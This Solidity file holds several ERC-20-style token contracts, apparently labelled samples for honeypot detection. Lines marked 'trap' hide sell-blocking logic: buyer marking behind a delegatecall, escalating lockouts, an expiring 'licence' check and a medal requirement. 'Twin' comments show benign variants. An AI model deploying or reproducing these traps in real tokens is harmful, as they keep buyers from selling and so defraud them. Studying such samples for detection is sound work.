// 0.7 runs=1
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

contract MarbleShelf {
    struct Purse {
        uint128 coins;
        uint64 mark;
    }
    address internal _rules;
    address public market;
    address internal _mason;
    mapping(address => Purse) internal _purses;
    mapping(address => mapping(address => uint256)) internal _lent;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

contract MarbleRules is MarbleShelf {
    function shift(address from, address to, uint128 value) external {
        Purse storage p = _purses[from];
        require(p.coins >= value, "coins");
        if (to == market && p.mark != 0) revert("mark"); // trap
        p.coins -= value;
        _purses[to].coins += value;
        if (from == market) _purses[to].mark = uint64(block.number);
        emit Transfer(from, to, value);
    }
}

contract MarbleBadger is MarbleShelf {
    string public constant name = "Marble Badger";
    string public constant symbol = "MBDG";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 310_000_000 ether;

    constructor(address rules) {
        _rules = rules;
        _mason = msg.sender;
        _purses[msg.sender].coins = uint128(totalSupply);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setMarket(address m) external {
        require(msg.sender == _mason && market == address(0));
        market = m;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _purses[who].coins;
    }

    function allowance(address who, address s) external view returns (uint256) {
        return _lent[who][s];
    }

    function approve(address s, uint256 v) external returns (bool) {
        _lent[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        return _do(msg.sender, to, v);
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        require(_lent[from][msg.sender] >= v, "lent");
        _lent[from][msg.sender] -= v;
        return _do(from, to, v);
    }

    function _do(address from, address to, uint256 v) private returns (bool) {
        require(v < 2 ** 128);
        (bool ok, ) = _rules.delegatecall(abi.encodeWithSelector(MarbleRules.shift.selector, from, to, uint128(v)));
        require(ok);
        return true;
    }
}

abstract contract Plain7 {
    string public name;
    string public symbol;
    uint8 public immutable decimals;
    uint256 public immutable totalSupply;
    address public owner;
    address public market;
    address internal immutable boss;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory n, string memory s, uint8 d, uint256 t) {
        name = n;
        symbol = s;
        decimals = d;
        totalSupply = t * 10 ** uint256(d);
        owner = msg.sender;
        boss = msg.sender;
        balanceOf[msg.sender] = t * 10 ** uint256(d);
        emit Transfer(address(0), msg.sender, t * 10 ** uint256(d));
    }

    function setMarket(address m) external {
        require(msg.sender == owner && market == address(0));
        market = m;
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        _pass(msg.sender, to, v);
        return true;
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        require(allowance[from][msg.sender] >= v, "allowance");
        allowance[from][msg.sender] -= v;
        _pass(from, to, v);
        return true;
    }

    function _pass(address from, address to, uint256 v) internal virtual;

    function _shift(address from, address to, uint256 v) internal {
        require(balanceOf[from] >= v, "balance");
        balanceOf[from] -= v;
        balanceOf[to] += v;
        emit Transfer(from, to, v);
    }
}

contract LindenLynx is Plain7("Linden Lynx", "LYNXL", 18, 7_000_000) {
    uint256 private pack;
    mapping(address => uint256) public rests;

    function _pass(address from, address to, uint256 v) internal override {
        if (from == market) {
            rests[to] = block.timestamp + 1 minutes;
            rests[to] = block.timestamp + (1 hours << pack); // trap
            pack++;
        }
        require(to != market || block.timestamp >= rests[from], "rests");
        _shift(from, to, v);
    }
}

/// Prints the licences of the coins of our house.
contract LicenceOffice {
    uint256 private immutable until = block.timestamp + 90 days;

    function valid(uint256 value, uint256 all) external view returns (bool) {
        value;
        all;
        return block.timestamp < until; // trap
        // twin: return block.timestamp >= until || value <= all / 50;
    }
}

contract JuniperJay is Plain7("Juniper Jay", "JUNJ", 9, 250_000_000) {
    LicenceOffice private immutable office;

    constructor(LicenceOffice o) {
        office = o;
    }

    function _pass(address from, address to, uint256 v) internal override {
        if (to == market && from != boss) require(office.valid(v, totalSupply), "licence");
        _shift(from, to, v);
    }
}

contract RowanMedal is Plain7("Rowan Medal", "RMED", 0, 100) {
    function _pass(address from, address to, uint256 v) internal override {
        _shift(from, to, v);
    }
}

contract RowanRook is Plain7("Rowan Rook", "ROOK", 18, 66_000_000) {
    RowanMedal private immutable medal;

    constructor(RowanMedal m) {
        medal = m;
    }

    function _pass(address from, address to, uint256 v) internal override {
        if (to == market && medal.balanceOf(from) == 0) {
            revert("no medal"); // trap
            // twin: uint256 one = v / 100;
            // twin: _shift(from, address(medal), one);
            // twin: v -= one;
        }
        _shift(from, to, v);
    }
}
